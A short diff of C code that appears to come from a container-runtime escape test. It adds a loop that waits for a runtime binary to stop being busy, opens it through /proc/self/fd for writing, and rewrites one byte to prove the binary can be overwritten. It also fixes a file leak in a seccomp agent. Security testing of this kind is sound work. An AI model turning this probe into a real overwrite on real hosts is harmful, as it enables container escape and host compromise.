@@ -158,7 +158,10 @@ static int write_through(int handle, int pid)
 	int w, hit = 0;
 
 	snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
-	w = open(path, O_RDWR);
+	/* While a runtime process still runs the image, the open fails with
+	 * ETXTBSY; the attack waits for them to be gone. */
+	for (int i = 0; (w = open(path, O_RDWR)) < 0 && errno == ETXTBSY && i < 500; i++)
+		usleep(10000);
 	if (w >= 0 && pread(w, &first, 1, 0) == 1 && pwrite(w, &first, 1, 0) == 1) {
 		printf("writable %d\n", pid);
 		hit = 1;
@@ -432,8 +435,10 @@ static int seccomp_agent(const char *sock, const char *out)
 		return perror(out), 2;
 	fprintf(f, "%s\n", buf);
 	memset(&req, 0, sizeof(req));
-	if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
+	if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
+		fclose(f);
 		return perror("seccomp-agent: NOTIF_RECV"), 2;
+	}
 	fprintf(f, "syscall %s\n", req.data.nr == SYS_mkdir ? "mkdir" : "other");
 	fclose(f);
 	memset(&resp, 0, sizeof(resp));
